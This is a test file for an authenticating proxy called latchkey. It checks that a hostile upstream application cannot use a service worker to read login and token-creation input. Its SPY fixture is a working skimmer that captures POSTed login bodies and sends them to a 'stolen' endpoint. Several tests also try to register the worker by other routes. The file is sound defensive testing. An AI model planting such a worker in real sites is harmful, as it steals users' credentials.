import type { BrowserContext, Page } from 'playwright-core';
import t from 'tap';
import { startChromium } from '../helpers/chromium.js';
import { directory, PASSWORD } from '../helpers/fixture.js';
import { send, serveHttp } from '../helpers/http.js';
import { start, temporaryFolder, writeConfig } from '../helpers/latchkey.js';
import { nightly } from '../helpers/nightly.js';

/** A service worker of the guarded application that reports the requests it sees from the page. */
const SPY = `
  self.addEventListener('install', () => self.skipWaiting());
  self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
  self.addEventListener('fetch', (event) => {
    const { url, method } = event.request;
    if (!/\\/(login|tokens)$/.test(url) || method !== 'POST') return;
    event.respondWith((async () => {
      const body = await event.request.clone().text();
      await fetch('/app/stolen', { method: 'POST', body });
      return fetch(event.request);
    })());
  });`;

/** A guarded application that tries every attack; `stolen` has what it got hold of. */
async function startHostile(t: Parameters<typeof temporaryFolder>[0]) {
  const stolen: string[] = [];
  const asked: string[] = [];
  const { url } = await serveHttp(t, (req, res) => {
    asked.push(req.url ?? '');
    const chunks: Buffer[] = [];
    req.on('data', (chunk: Buffer) => chunks.push(chunk));
    req.on('end', () => {
      if (req.url === '/app/stolen') stolen.push(Buffer.concat(chunks).toString());
      const script = req.url?.endsWith('.js') === true;
      res.writeHead(200, {
        'Content-Type': script ? 'text/javascript' : 'text/html',
        'Service-Worker-Allowed': '/',
        'Cache-Control': req.url?.includes('kept') === true ? 'public, max-age=31536000' : 'no-store',
      });
      if (req.url?.endsWith('/importing.js')) res.end("importScripts('/app/sw.js');");
      else if (req.url?.endsWith('/module.js')) res.end("import '/app/sw.js';");
      else if (req.url?.endsWith('/shared.js')) {
        const nested =
          "navigator.serviceWorker ? navigator.serviceWorker.register('/app/sw.js', { scope: '/' }) : Promise.reject(new Error('none'))";
        res.end(
          `onconnect = ({ ports: [port] }) => ${nested}.then(() => port.postMessage('registered'), (e) => port.postMessage('refused'));`,
        );
      } else res.end(script ? SPY : '<!doctype html><title>app</title>');
    });
  });
  return { url, stolen, asked };
}

const ROUTES = [
  { path: '/app/*', auth: 'none' },
  { path: '/sw.js', auth: 'none' },
  { path: '/kept.js', auth: 'none' },
];

async function startBeside(t: Parameters<typeof temporaryFolder>[0] & Parameters<typeof start>[0], config: object) {
  const hostile = await startHostile(t);
  const configFile = writeConfig(temporaryFolder(t), { upstream: hostile.url, ...config }, await directory());
  return { hostile, server: await start(t, configFile) };
} // prettier-ignore

const browser = await startChromium(t);

async function open(t: { teardown: (fn: () => Promise<void>) => void }, url: string) {
  const context = await browser.newContext();
  t.teardown(() => context.close());
  const page = await context.newPage();
  await page.goto(url);
  return { context, page };
}

/** Registers a service worker as a script of the application would; resolves to the outcome. */
function register(page: Page, script: string, options: object = {}): Promise<string> {
  return page.evaluate<string>(`
    navigator.serviceWorker.register(${JSON.stringify(script)}, ${JSON.stringify(options)}).then(
      async ({ scope }) => {
        await navigator.serviceWorker.ready.catch(() => undefined);
        return 'registered ' + new URL(scope).pathname;
      },
      (error) => 'refused ' + error.name,
    )`);
}

async function logIn(page: Page): Promise<void> {
  await page.getByLabel('Login name').fill('superuser@example.com');
  await page.getByLabel('Password', { exact: true }).fill(PASSWORD);
  await page.getByRole('button', { name: 'Log in' }).click();
  await page.getByRole('heading', { name: 'My tokens' }).waitFor();
}

const registered = (context: BrowserContext) => context.serviceWorkers().map((worker) => worker.url());

t.test('no service worker of the application sees input on the page', async (t) => {
  const { hostile, server } = await startBeside(t, { routes: ROUTES });
  const { context, page } = await open(t, `${server.url}/app/index.html`);
  for (const [script, options] of [
    ['/app/sw.js', {}],
    ['/app/sw.js', { scope: '/' }],
    ['/app/sw.js', { scope: '/_latchkey/' }],
    ['/app/nested/deep/sw.js', { scope: '/app/' }],
    ['/sw.js', { scope: '/' }],
    ['/sw.js', { scope: '/login' }],
    ['/app/importing.js', { scope: '/' }],
    ['/app/module.js', { scope: '/', type: 'module' }],
    ['/app/sw.js', { scope: '/', updateViaCache: 'all' }],
  ] as const) {
    t.match(await register(page, script, options), /^refused /, `${script} ${JSON.stringify(options)}`);
  }
  // The browser uses a cached script without a request, so it must not accept one as a service
  // worker.
  await page.goto(`${server.url}/kept.js`);
  await page.goto(`${server.url}/app/index.html`);
  await page.evaluate("fetch('/kept.js').then((answer) => answer.text())");
  const before = hostile.asked.length;
  await page.evaluate("fetch('/kept.js').then((answer) => answer.text())");
  t.equal(hostile.asked.length, before, 'cached by the browser');
  t.match(
    await register(page, '/kept.js', { scope: '/', updateViaCache: 'all' }),
    /^refused /,
    'from the cache',
  );
  t.equal(
    await page.evaluate<string>(
      `new Promise((done) => {
        const { port } = new SharedWorker('/app/shared.js');
        port.onmessage = ({ data }) => done(data);
        port.start();
      })`,
    ),
    'refused',
    'from a shared worker',
  );
  t.same(
    hostile.asked.filter((path) => /sw\.js|importing|module/.test(path)),
    [],
    'no request to the application',
  );
  t.same(registered(context), []);
  await page.goto(`${server.url}/_latchkey/`);
  await logIn(page);
  t.same(hostile.stolen, []);
});

t.test('where a route allows it the service worker runs, and a login removes it', nightly, async (t) => {
  const { hostile, server } = await startBeside(t, {
    routes: [{ path: '/app/sw.js', auth: 'none', service_worker: 'allow' }, ...ROUTES],
  });
  const { context, page } = await open(t, `${server.url}/app/index.html`);
  t.match(await register(page, '/sw.js', { scope: '/' }), /^refused/);
  t.equal(await register(page, '/app/sw.js', { scope: '/' }), 'registered /', 'Service-Worker-Allowed is forwarded');
  await page.goto(`${server.url}/_latchkey/`);
  await logIn(page);
  t.equal(hostile.stolen.length, 1, 'this is what it would see');
  t.match(await context.cookies(), [{ name: 'service.session', httpOnly: true }], 'the session is kept');
  await page.goto(`${server.url}/app/index.html`);
  t.equal(await page.evaluate('navigator.serviceWorker.getRegistrations().then((all) => all.length)'), 0);
  await page.goto(`${server.url}/_latchkey/`);
  await page.getByRole('heading', { name: 'My tokens' }).waitFor();
}); // prettier-ignore

t.test('on its own host the page works, and the application is another origin', nightly, async (t) => {
  const hostile = await startHostile(t);
  const folder = temporaryFolder(t);
  const people = await directory();
  // The port is known only after the start, so the page's host is set by a reload.
  const routes = [{ path: '/*', auth: 'none', service_worker: 'allow' }];
  const configFile = writeConfig(folder, { upstream: hostile.url, routes }, people);
  const server = await start(t, configFile);
  const { port } = new URL(server.url);
  writeConfig(folder, { upstream: hostile.url, routes, interface: { ui: { host: `localhost:${port}` } } }, people);
  t.equal((await send(server.admin, '/-/reload', { method: 'POST' })).status, 200);

  const { page } = await open(t, `http://127.0.0.1:${port}/app/index.html`);
  t.equal(await register(page, '/sw.js', { scope: '/' }), 'registered /');
  await page.goto(`http://127.0.0.1:${port}/_latchkey/`);
  t.equal(await page.title(), 'app', 'the page is not there');
  await page.goto(`http://localhost:${port}/app/index.html`);
  t.match(await page.content(), /No endpoint for/, 'the application is not here');
  t.match(await register(page, '/app/sw.js'), /^refused/);
  await page.goto(`http://localhost:${port}/_latchkey/`);
  await logIn(page);
  await page.getByRole('link', { name: 'Create token' }).click();
  await page.getByLabel('Name', { exact: true }).fill('apart');
  await page.getByRole('checkbox', { name: /^Read only/ }).check();
  await page.getByLabel('Password', { exact: true }).fill(PASSWORD);
  await page.getByRole('button', { name: 'Create token' }).click();
  t.match(await page.getByLabel('Secret', { exact: true }).inputValue(), /^lk/);
  t.same(hostile.stolen, []);
}); // prettier-ignore
